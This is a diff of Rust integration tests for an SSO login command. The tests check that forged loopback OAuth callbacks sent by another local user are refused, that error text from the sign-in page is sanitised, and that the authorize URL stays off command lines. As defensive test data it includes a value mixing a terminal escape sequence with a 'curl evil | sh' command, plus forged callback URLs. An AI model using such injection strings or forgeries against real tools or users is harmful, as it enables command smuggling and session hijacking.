@@ -209,25 +209,15 @@ fn an_endpoint_that_is_no_url_never_shows_the_token() {
 // by rolecall and by botocore, refreshed silently, ended by `sso logout`.
 
 /// The test's "browser": a script in `$BROWSER` that opens the page as a person who approves
-/// would (urllib follows the sign-in page's redirect to the loopback callback), and logs each
-/// URL it was given.
+/// would (it reads the private page, and urllib follows the sign-in page's redirect to the
+/// loopback callback), and logs where each page sent it.
 fn browser(world: &World) -> std::path::PathBuf {
-    use std::os::unix::fs::PermissionsExt;
-    let script = world.home().join("browser");
-    let log = world.home().join("browser.log");
-    std::fs::write(
-        &script,
-        format!(
-            "#!/usr/bin/env python3\nimport sys, urllib.request\n\
-             log = open({log:?}, 'a')\nlog.write(sys.argv[1] + '\\n')\nlog.flush()\n\
-             try:\n    urllib.request.urlopen(sys.argv[1], timeout=10).read()\n\
-             except Exception as error:\n    log.write('failed: %s\\n' % error)\n",
-            log = log.display().to_string()
-        ),
+    crate::common::page_browser(
+        world,
+        &world.home().join("browser.log"),
+        true,
+        std::time::Duration::ZERO,
     )
-    .unwrap();
-    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
-    script
 }
 
 impl SsoWorld {
@@ -440,18 +430,12 @@ type Fault = (
 
 #[test]
 fn login_faults_each_get_one_clear_message_and_save_nothing() {
-    let cases: [Fault; 3] = [
-        (
-            "a wrong state",
-            |s| s.wrong_state = true,
-            &["sso", "login", "sso-dev"],
-            "its state does not match",
-        ),
+    let cases: [Fault; 2] = [
         (
             "a declined sign-in page",
             |s| s.decline = true,
             &["sso", "login", "sso-dev"],
-            "the sign-in was refused: access_denied: declined\\x1b]0;x",
+            "the sign-in was refused (access_denied: declined in the browser)",
         ),
         (
             "a declined device code",
@@ -560,14 +544,15 @@ fn the_loopback_callback_ignores_other_requests_and_the_sign_in_page_gets_what_p
     std::fs::write(
         &noisy,
         format!(
-            "#!/usr/bin/env python3\nimport socket, sys, urllib.parse, urllib.request\n\
-             url = sys.argv[1]\nopen({log:?}, 'w').write(url)\n\
+            "#!/usr/bin/env python3\n{}\nimport socket\n\
+             url = target_of(sys.argv[1], {log:?})\nopen({log:?}, 'w').write(url)\n\
              redirect = urllib.parse.parse_qs(urllib.parse.urlparse(url).query)['redirect_uri'][0]\n\
              loopback = urllib.parse.urlparse(redirect)\n\
              idle = socket.create_connection((loopback.hostname, loopback.port))\n\
              try:\n    urllib.request.urlopen('http://%s:%d/favicon.ico' % (loopback.hostname, loopback.port), timeout=10)\n\
              except Exception:\n    pass\n\
              urllib.request.urlopen(url, timeout=20).read()\n",
+            crate::common::READ_PAGE_PY,
             log = log.display().to_string()
         ),
     )
@@ -717,4 +702,119 @@ fn assume_on_a_terminal_logs_in_itself_and_goes_on() {
         "{screen}"
     );
     assert!(sso.token_file("corp").exists());
+}
+
+/// A browser that, once it has the private page, has another user (uid 65534, through
+/// `setpriv`) send `forgeries` to the loopback callback first, noting each answer's status, and
+/// then signs in as `browser` does. The forgeries name the callback as `CALLBACK`.
+fn forging_browser(sso: &SsoWorld, forgeries: &[&str]) -> std::path::PathBuf {
+    use std::os::unix::fs::PermissionsExt;
+    let script = sso.world.home().join("forging-browser");
+    let log = sso.world.home().join("forged.log");
+    let forged: Vec<String> = forgeries.iter().map(|f| format!("{f:?}")).collect();
+    std::fs::write(
+        &script,
+        format!(
+            "#!/usr/bin/env python3\n{}\nimport subprocess\n\
+             url = target_of(sys.argv[1], {log:?})\n\
+             redirect = urllib.parse.parse_qs(urllib.parse.urlparse(url).query)['redirect_uri'][0]\n\
+             for forged in [{}]:\n\
+             \x20   status = subprocess.run(['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups',\n\
+             \x20       'curl', '-s', '-m', '5', '-o', '/dev/null', '-w', '%{{http_code}}', forged.replace('CALLBACK', redirect)],\n\
+             \x20       capture_output=True, text=True).stdout\n\
+             \x20   open({log:?}, 'a').write(status + '\\n')\n\
+             urllib.request.urlopen(url, timeout=20).read()\n",
+            crate::common::READ_PAGE_PY,
+            forged.join(", "),
+            log = log.display().to_string()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    script
+}
+
+#[test]
+fn a_callback_forged_by_another_user_is_refused_and_the_login_goes_on() {
+    let sso = sso_world();
+    // The attacker knows the port (/proc/net/tcp lists it) but not the state.
+    let forgeries = [
+        "CALLBACK?code=forged&state=guessed",
+        "CALLBACK?error=access_denied&error_description=Re-enroll&state=guessed",
+        "CALLBACK?code=forged",
+    ];
+    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
+    command.env("BROWSER", forging_browser(&sso, &forgeries));
+    let run = Run::of(command).success();
+    let answers = std::fs::read_to_string(sso.world.home().join("forged.log")).unwrap();
+    assert_eq!(answers, "400\n400\n400\n", "{}", run.stderr);
+    assert!(!run.stderr.contains("Re-enroll"), "{}", run.stderr);
+    // The token is the one issued for the browser's own code.
+    let codes: Vec<String> = sso
+        .portal
+        .calls_to("/token")
+        .iter()
+        .map(|call| call.body.clone())
+        .collect();
+    assert!(
+        codes.iter().all(|body| !body.contains("forged")),
+        "{codes:?}"
+    );
+    assert!(sso.token("corp")["accessToken"].is_string());
+}
+
+#[test]
+fn a_refused_sign_in_says_oauths_code_and_never_the_pages_own_words() {
+    for (code, said) in [
+        (
+            "access_denied",
+            "the sign-in was refused (access_denied: declined in the browser)",
+        ),
+        (
+            "temporarily_unavailable",
+            "(temporarily_unavailable: the service is busy; try again shortly)",
+        ),
+        (
+            "run\u{1b}]0;this: curl evil | sh",
+            "the sign-in was refused (with an error code that is not OAuth's)",
+        ),
+    ] {
+        let sso = sso_world();
+        sso.portal.script(|s| {
+            s.decline = true;
+            s.refusal_code = code;
+        });
+        let run = Run::of(sso.rolecall(&["sso", "login", "sso-dev"])).failure(1);
+        for words in ["Re-enroll", "evil", "curl", "\\x1b", "\u{1b}"] {
+            assert!(!run.stderr.contains(words), "{code}: {}", run.stderr);
+        }
+        run.stderr_has(said);
+        assert!(!sso.token_file("corp").exists());
+    }
+}
+
+#[test]
+fn no_authorize_url_is_on_any_command_line_and_its_page_is_private_and_removed() {
+    let sso = sso_world();
+    let log = sso.world.home().join("slow.log");
+    // A browser that takes a moment to start, during which every command line is read.
+    let slow =
+        crate::common::page_browser(&sso.world, &log, true, std::time::Duration::from_secs(1));
+    let mut command = sso.rolecall(&["sso", "login", "sso-dev"]);
+    command
+        .env("BROWSER", &slow)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null());
+    let child = command.spawn().unwrap();
+    let (status, seen) = crate::common::command_lines_while_running(child, "code_challenge");
+    assert!(status.success());
+    assert!(seen.is_empty(), "on a command line: {seen:?}");
+    let opened = std::fs::read_to_string(&log).unwrap();
+    assert!(opened.contains("code_challenge="), "{opened}");
+    assert!(!opened.contains("failed:"), "{opened}");
+    assert!(sso.token("corp")["accessToken"].is_string());
+    assert_eq!(
+        crate::common::assert_pages_private_and_removed(sso.world.home()),
+        1
+    );
 }
